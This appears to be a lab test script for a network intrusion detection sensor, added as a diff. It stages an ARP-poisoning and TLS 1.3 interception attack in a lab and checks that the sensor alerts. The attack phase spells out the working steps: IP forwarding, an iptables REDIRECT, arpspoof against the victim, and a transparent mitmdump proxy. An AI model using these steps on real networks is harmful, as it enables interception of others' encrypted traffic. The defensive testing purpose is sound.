@@ -1,0 +1,115 @@
+#!/bin/sh
+# Lab scenario tls13-intercept: TLS interception seen through the server's TLS 1.3
+# answer (tls.server_fingerprint_changed) alone, since TLS 1.3 encrypts the certificate.
+# srv serves https://www.lab.example/ (openssl s_server -www, a certificate from the
+# lab CA declared in tls.ca_files) with the TLS 1.3 policy its admin configured: the
+# server's own cipher-suite preference, AES-128-GCM first (-serverpref -ciphersuites
+# TLS_AES_128_GCM_SHA256:TLS_CHACHA20_POLY1305_SHA256:TLS_AES_256_GCM_SHA384; in nginx
+# ssl_prefer_server_ciphers on + ssl_conf_command Ciphersuites; the choice Go's
+# crypto/tls servers and BoringSSL front ends make too), so it answers curl with 0x1301.
+# Baseline: the victim fetches it with curl --tlsv1.3, verifying against the lab CA;
+# the sensor learns the server's JA4S/JA3S for www.lab.example:443 and curl's JA4 (no
+# alert >= 4). Attack: the attacker ARP-poisons the victim for srv's address (dsniff
+# arpspoof, IP forwarding on) and intercepts port 443 with mitmproxy (`mitmdump --mode
+# transparent` behind an iptables REDIRECT); the victim keeps fetching, TLS 1.3 only,
+# and clicks through (curl -k). mitmproxy answers with OpenSSL's default choice (the
+# client's preference, 0x1302). Expected live: tls.server_fingerprint_changed for
+# www.lab.example:443 with the old and new JA4S/JA3S in evidence, arp.ip_mac_changed
+# for 192.0.2.10, an incident.mitm for the victim holding both, and no issuer.* alert
+# in any phase (the certificates are encrypted). The TLS 1.2 variant, where the
+# certificate shows, is scenario-tls-intercept.sh.
+# shellcheck disable=SC2016
+set -eu
+# shellcheck source=tests/lib.sh
+. "${top_srcdir:-$(cd "$(dirname "$0")/../.." && pwd)}/tests/lib.sh"
+# shellcheck source=tests/lab/lab.sh
+. "$top_srcdir/tests/lab/lab.sh"
+
+lab_init tls13-intercept
+lab_need openssl curl arpspoof mitmdump iptables timeout
+lab_up
+
+# The lab CA and srv's certificate (www.lab.example, 192.0.2.10).
+pki=$tmp/pki
+mkdir -p "$pki"
+openssl req -x509 -newkey rsa:2048 -nodes -days 30 -keyout "$pki/ca.key" -out "$pki/ca.pem" \
+	-subj "/O=onpath lab/CN=onpath lab CA" -addext "basicConstraints=critical,CA:TRUE" \
+	-addext "keyUsage=critical,keyCertSign,cRLSign" 2>"$pki/err" || die "CA: $(cat "$pki/err")"
+openssl req -newkey rsa:2048 -nodes -keyout "$pki/srv.key" -out "$pki/srv.csr" \
+	-subj "/O=onpath lab/CN=www.lab.example" 2>"$pki/err" || die "CSR: $(cat "$pki/err")"
+printf 'subjectAltName=DNS:www.lab.example,IP:%s\nextendedKeyUsage=serverAuth\nbasicConstraints=CA:FALSE\n' \
+	"$LAB_SRV_IP" >"$pki/srv.ext"
+openssl x509 -req -in "$pki/srv.csr" -CA "$pki/ca.pem" -CAkey "$pki/ca.key" -CAcreateserial \
+	-days 30 -extfile "$pki/srv.ext" -out "$pki/srv.pem" 2>"$pki/err" || die "cert: $(cat "$pki/err")"
+
+lab_config "$tmp/lab.yaml"
+cat >>"$tmp/lab.yaml" <<EOF
+tls:
+  ca_files: ["$pki/ca.pem"]
+EOF
+
+# srv's TLS 1.3 policy: the server's preference, AES-128-GCM first.
+srv_suites=TLS_AES_128_GCM_SHA256:TLS_CHACHA20_POLY1305_SHA256:TLS_AES_256_GCM_SHA384
+lab_bg srv "$tmp/s_server.log" openssl s_server -www -accept 443 -cert "$pki/srv.pem" -key "$pki/srv.key" \
+	-ciphersuites "$srv_suites" -serverpref
+# fetch [CURL ARGS...]: one HTTPS GET of www.lab.example from the victim, TLS 1.3 only
+fetch() {
+	lab_exec victim curl -sS -m 5 --tlsv1.3 -o /dev/null -w '%{http_code} %{ssl_verify_result}\n' \
+		--resolve "www.lab.example:443:$LAB_SRV_IP" "$@" https://www.lab.example/ >>"$tmp/curl.log" 2>&1
+}
+wait_until 10 fetch --cacert "$pki/ca.pem" || die "s_server on srv does not answer: $(cat "$tmp/s_server.log" "$tmp/curl.log")"
+
+# mitmproxy on the attacker (started now: it needs a few seconds to load; nothing
+# reaches it until the REDIRECT and the ARP poisoning).
+mkdir -p "$tmp/mitm"
+lab_bg attacker "$tmp/mitmdump.log" mitmdump --mode transparent --listen-host "$LAB_ATTACKER_IP" \
+	--listen-port 8443 --set confdir="$tmp/mitm" --ssl-insecure --set flow_detail=1
+mitm=$lab_pid
+wait_until 30 eval 'lab_exec attacker ss -ltn | grep -q ":8443 "' ||
+	die "mitmdump did not listen: $(cat "$tmp/mitmdump.log")"
+
+lab_sensor_start "$tmp/lab.yaml"
+
+lab_phase baseline
+# Fresh neighbour caches: the victim resolves srv's MAC while the sensor listens (it
+# learns 192.0.2.10 -> 02:..:0a from traffic, as it would on a real LAN).
+lab_exec victim ip neigh flush dev eth0
+lab_exec srv ip neigh flush dev eth0
+for _ in 1 2 3 4; do
+	fetch --cacert "$pki/ca.pem" -v || die "baseline: TLS 1.3 fetch failed: $(tail -n 3 "$tmp/curl.log")"
+	sleep 0.3
+done
+sleep 1
+
+lab_phase attack
+lab_exec attacker sh -c 'echo 1 >/proc/sys/net/ipv4/ip_forward;
+	echo 0 >/proc/sys/net/ipv4/conf/all/send_redirects;
+	echo 0 >/proc/sys/net/ipv4/conf/eth0/send_redirects'
+lab_exec attacker iptables -t nat -A PREROUTING -i eth0 -p tcp -d "$LAB_SRV_IP" --dport 443 \
+	-j REDIRECT --to-ports 8443 || die "iptables REDIRECT failed on the attacker"
+lab_bg attacker "$tmp/arpspoof.log" timeout 25 arpspoof -i eth0 -t "$LAB_VICTIM_IP" "$LAB_SRV_IP"
+spoof=$lab_pid
+wait_until 8 eval 'lab_exec victim ip neigh show "$LAB_SRV_IP" | grep -qi "$LAB_ATTACKER_MAC"' ||
+	note "victim ARP cache not poisoned for srv after 8 s"
+for _ in 1 2 3 4; do
+	fetch -k -v || true
+	sleep 0.3
+done
+lab_kill "$spoof" 8 # arpspoof re-ARPs for a few seconds on SIGTERM
+lab_phase end
+
+lab_sensor_stop
+lab_kill "$mitm" 3
+# The replay needs the lab CA of this run (tls.ca_files).
+cp "$pki/ca.pem" "$lab_out/tls13-intercept-ca.pem"
+intercepted=$(grep -c 'issuer: CN=mitmproxy' "$tmp/curl.log" || true)
+note "curl's handshakes: $(grep 'SSL connection using' "$tmp/curl.log" | sort | uniq -c | tr '\n' ';')"
+note "curl saw a mitmproxy certificate $intercepted times of 4; mitmdump: $(tail -c 800 "$tmp/mitmdump.log" | tr '\n' ';')"
+[ "$intercepted" -gt 0 ] || die "tls13-intercept: no fetch was intercepted: the attack did not happen ($(tail -n 5 "$tmp/mitmdump.log" | tr '\n' ';'))"
+lab_check --quiet baseline:4 \
+	--expect "attack:tls.server_fingerprint_changed:onpath.evidence.server=www.lab.example:443,onpath.evidence.new.version=TLSv1.3,onpath.evidence.new.cipher=0x1302,message=it used to answer t130200_1301_,destination.ip=$LAB_VICTIM_IP" \
+	--expect "attack:arp.ip_mac_changed:onpath.evidence.ip=$LAB_SRV_IP,onpath.evidence.new_mac=$LAB_ATTACKER_MAC" \
+	--expect-incident "arp.ip_mac_changed+tls.server_fingerprint_changed:destination.ip=$LAB_VICTIM_IP,onpath.incident.attackers=$LAB_ATTACKER_MAC" \
+	--absent "baseline:issuer.*" --absent "attack:issuer.*" --absent "end:issuer.*" ||
+	die "tls13-intercept: alerts do not match (replay: onpath -r $lab_out/tls13-intercept.pcap -c <config with tls.ca_files: [$lab_out/tls13-intercept-ca.pem]>)"
+echo "PASS: tls13-intercept"
